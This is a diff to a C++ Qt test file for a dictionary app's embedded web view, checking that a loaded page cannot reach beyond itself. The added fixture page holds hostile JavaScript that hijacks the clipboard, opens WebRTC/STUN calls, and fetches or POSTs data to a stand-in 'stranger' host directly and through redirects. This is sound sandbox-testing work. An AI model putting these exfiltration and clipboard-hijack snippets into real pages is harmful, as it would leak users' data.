@@ -1,11 +1,15 @@
 #include "tests/ui/window_test.hpp"
 #include "ui/pages/browser_view.hpp"
 
+#include <QClipboard>
 #include <QTcpServer>
 #include <QTcpSocket>
+#include <QUdpSocket>
 #include <QWebEngineView>
 
 #include <algorithm>
+#include <csignal>
+#include <gmock/gmock.h>
 #include <memory>
 #include <vector>
 
@@ -14,7 +18,8 @@ namespace lexigrove
 namespace
 {
 
-/// A web server on the machine itself, which answers everything with one page and notes what was asked for.
+/// A web server on the machine itself, which notes what was asked for. It answers "/to/X" with a redirection to "/X" of
+/// a stranger, and everything else with one page.
 class Server
 {
 public:
@@ -33,6 +38,9 @@ public:
         return "http://" + address + ":" + std::to_string(server_.serverPort());
     }
 
+    /// This server, too, but not a host that pages may have.
+    [[nodiscard]] std::string stranger() const { return host("127.0.0.2"); }
+
     std::vector<std::string> asked;             ///< path and query of each request, and the cookie that came with it
     std::string page = "\r\n<p>The page</p>\n"; ///< further header lines, an empty line and the page
 
@@ -46,8 +54,12 @@ private:
         asked.push_back(request.split(' ').at(1).toStdString());
         if (cookie >= 0)
             asked.back() += " " + request.mid(cookie + 2).split('\r').at(0).toStdString();
-        socket.write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n");
-        socket.write(QByteArray::fromStdString(page));
+        if (asked.back().starts_with("/to/"))
+            socket.write("HTTP/1.1 307 Elsewhere\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\nLocation: " +
+                         QByteArray::fromStdString(stranger() + asked.back().substr(3)) + "\r\n\r\n");
+        else
+            socket.write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n" +
+                         QByteArray::fromStdString(page));
         socket.disconnectFromHost();
     }
 
@@ -109,15 +121,41 @@ protected:
     Server server_;
 };
 
-// Guards the way of a word to its page, and the machine against the page: no question, no window, no other host is
-// reached, and nothing is remembered. Closing the window ends the page.
+// Guards the way of a word to its page, and the machine against the page: no question, no window, no dialog, no
+// clipboard, no other host is reached, not by a detour either, and nothing is remembered. Closing the window ends the
+// page.
 TEST_F(BrowserTest, APageReachesNothingBeyondItself)
 {
-    const std::string stranger = server_.host("127.0.0.2"); // this server too, but not a host that pages may have
-    server_.page = "Set-Cookie: seen=yes; Path=/; Max-Age=9999\r\n\r\n<p>A page</p><img src='" + stranger +
-                   "/picture'><iframe src='" + stranger + "/frame'></iframe><script>alert(1); confirm(2);" +
-                   "window.open('/popup'); setTimeout(() => { document.title = 'over'; location.href = '" + stranger +
-                   "/page'; }, 100); fetch('/script').then(() => fetch('" + stranger + "/fetched'));</script>";
+    QUdpSocket calls;
+    ASSERT_TRUE(calls.bind(QHostAddress("127.0.0.2")));
+    server_.page = "Set-Cookie: seen=yes; Path=/; Max-Age=9999\r\n\r\n<p onclick='take()'>A page</p>"
+                   "<input type=color><script>const stranger = '" +
+                   server_.stranger() + "', stun = 'stun:127.0.0.2:" + std::to_string(calls.localPort()) + R"(';
+        const tell = () => { document.title += '.'; };
+        function take() {
+            document.querySelector('input').showPicker();
+            navigator.clipboard?.writeText('stolen');
+            const frame = document.body.appendChild(document.createElement('iframe'));
+            for (const place of [document, frame.contentDocument]) {
+                place.body.append('stolen');
+                place.getSelection().selectAllChildren(place.body);
+                place.execCommand('copy');
+            }
+            tell();
+        }
+        document.write(`<img src='${stranger}/picture'><iframe src='${stranger}/frame'></iframe>
+            <img src='/to/detour'><script src='/to/detour'></` + `script><iframe src='/to/detour'></iframe>`);
+        alert(1);
+        confirm(2);
+        window.open('/popup');
+        setTimeout(() => { location.href = stranger + '/page'; }, 100);
+        const call = new RTCPeerConnection({iceServers: [{urls: stun}]});
+        call.createDataChannel('all');
+        call.createOffer().then((offer) => call.setLocalDescription(offer));
+        navigator.geolocation.getCurrentPosition(tell, tell);
+        for (const [to, method] of [[stranger + '/fetched', 'GET'], ['/to/detour', 'GET'], ['/to/detour', 'POST']])
+            fetch(to, {method, mode: 'no-cors', body: method == 'GET' ? null : 'all'}).then(tell, tell);
+        </script>)";
     chooseOptions([](OptionsForm& options) { options.select(options.Option8); });
     for (int showing = 1; showing <= 2; ++showing) {
         script.in("Form3", [&](QDialog& dialog) {
@@ -125,18 +163,39 @@ TEST_F(BrowserTest, APageReachesNothingBeyondItself)
             EXPECT_TRUE(says(dialog, "A page"));
             const auto* view = dialog.findChild<QWebEngineView*>();
             EXPECT_EQ(view->size(), dialog.size());
-            EXPECT_TRUE(QTest::qWaitFor([&] { return view->title() == "over"; }, 10'000));
+            EXPECT_TRUE(QTest::qWaitFor([&] { return view->title().endsWith("...."); }, 10'000));
+            QGuiApplication::clipboard()->setText("mine");
+            QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {}, {200, 25});
+            EXPECT_TRUE(QTest::qWaitFor([&] { return view->title().endsWith("....."); }, 10'000));
             QTest::qWait(300);
             const QWidgetList windows = QApplication::topLevelWidgets();
             EXPECT_EQ(std::count_if(windows.begin(), windows.end(), [](QWidget* w) { return w->isVisible(); }), 2);
+            EXPECT_EQ(QGuiApplication::clipboard()->text(), "mine");
             QTest::keyClick(QApplication::focusWidget(), Qt::Key_Escape);
         });
         showMeaning();
-        const std::vector<std::string> expected{"/cgi-bin/dictionary?book=Dictionary&va=CAT",
-                                                "/script Cookie: seen=yes"};
-        EXPECT_EQ(server_.asked, expected) << "showing " << showing;
+        EXPECT_EQ(server_.asked.front(), "/cgi-bin/dictionary?book=Dictionary&va=CAT");
+        EXPECT_EQ(std::count(server_.asked.begin() + 1, server_.asked.end(), "/to/detour Cookie: seen=yes"),
+                  std::ssize(server_.asked) - 1);
+        EXPECT_GE(server_.asked.size(), 4U);
+        EXPECT_FALSE(calls.hasPendingDatagrams());
         EXPECT_FALSE(enginePageExists());
     }
+}
+
+// Guards a window that stays empty without a word when the page's process ends.
+TEST_F(BrowserTest, APageThatDiesSaysSo)
+{
+    script.in("Form3", [&](QDialog& dialog) {
+        EXPECT_TRUE(says(dialog, "The page"));
+        ::kill(static_cast<pid_t>(dialog.findChild<QWebEngineView*>()->page()->renderProcessPid()), SIGKILL);
+        const auto* const failure = dialog.findChild<QLabel*>("Failure");
+        EXPECT_TRUE(QTest::qWaitFor([&] { return failure->isVisible(); }));
+        EXPECT_THAT(failure->text().toStdString(), testing::StartsWith("The page has stopped working."));
+        EXPECT_FALSE(enginePageExists());
+        QTest::keyClick(&dialog, Qt::Key_Escape);
+    });
+    showMeaning();
 }
 
 // Guards the help window: Back and Forward only move between the places of the page, coming to the front shows it from
